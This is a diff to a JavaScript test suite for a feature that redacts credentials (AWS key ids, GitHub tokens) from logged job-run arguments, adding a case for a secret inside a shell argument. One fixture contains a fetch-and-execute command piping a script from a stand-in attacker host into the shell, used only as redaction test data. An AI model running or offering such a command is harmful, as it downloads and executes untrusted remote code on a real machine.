@@ -97,6 +97,8 @@ describe('job-run-overrides', () => {
     // Only the credential: the rest of the argument is evidence of what ran, which a credential-looking string
     // anywhere in it (a comment at the end of a script) hid whole.
     ['a credential format', ['--key=AKIAABCDEFGHIJKLMNOP'], ['--key=[hidden: an AWS access key id]']],
+    // The name rule must not cut into the marker the format rule left (`--token=[hidden] an AWS access key id]`).
+    ['a credential format under a secret\'s name inside an argument', ['sh -c "run --api-token=AKIAABCDEFGHIJKLMNOP"'], ['sh -c "run --api-token=[hidden: an AWS access key id]"']],
     [
       'a credential format inside a command line, the command still shown',
       ['-c', 'curl -s https://attacker.example/stage2 | sh # AKIAABCDEFGHIJKLMNOP', 'git clone https://x-access-token:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/acme/ops && ./ops/run'],
